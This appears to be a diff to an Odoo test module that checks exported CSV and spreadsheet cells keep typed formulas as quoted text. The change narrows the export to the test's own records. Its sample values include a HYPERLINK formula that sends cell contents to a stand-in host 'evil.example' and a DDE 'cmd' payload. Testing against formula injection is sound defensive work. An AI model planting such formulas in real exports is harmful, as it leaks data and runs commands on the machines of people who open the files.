@@ -16,7 +16,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open your file")'
 
 @tagged("post_install", "-at_install")
 class TestExportedTextStaysText(HttpCase, AttaBeneficiaryCase):
-    def _export(self, model, field_names, groupby=(), file_format="xlsx"):
+    def _export(self, model, field_names, groupby=(), file_format="xlsx", domain=()):
         Model = self.env[model]
         params = {
             "model": model,
@@ -25,7 +25,7 @@ class TestExportedTextStaysText(HttpCase, AttaBeneficiaryCase):
                 for name in field_names
             ],
             "ids": False,
-            "domain": [],
+            "domain": list(domain),
             "groupby": list(groupby),
             "import_compat": False,
         }
@@ -60,13 +60,17 @@ class TestExportedTextStaysText(HttpCase, AttaBeneficiaryCase):
 
     def test_a_formula_typed_as_a_name_is_exported_by_odoos_csv_export_behind_a_quote(self):
         typed = ("@SUM(1)", "\t=1+1", "\r=cmd|' /C calc'!A0", "=1+1", "+966", "-2+3")
+        calls = self.env["atta.interaction"]
         for name in typed + ("Fatimah @ the desk", "Plain caller"):
-            self.env["atta.interaction"].create(
+            calls |= self.env["atta.interaction"].create(
                 {"name": "Call", "caller_name": name, "channel_id": self.channel_phone.id}
             )
         self.officer.group_ids += self.env.ref("base.group_allow_export")
         self.authenticate(self.officer.login, self.officer.login)
-        rows = self._export("atta.interaction", ["caller_name", "name"], file_format="csv")
+        # These calls only: a database with sample data has others.
+        rows = self._export(
+            "atta.interaction", ["caller_name", "name"], file_format="csv", domain=[("id", "in", calls.ids)]
+        )
         cells = {row[0] for row in rows[1:]}
         # Each typed formula behind Odoo's quote, once; a text with "@" inside stays as it was typed.
         self.assertEqual(cells, {"'" + name for name in typed} | {"Fatimah @ the desk", "Plain caller"})
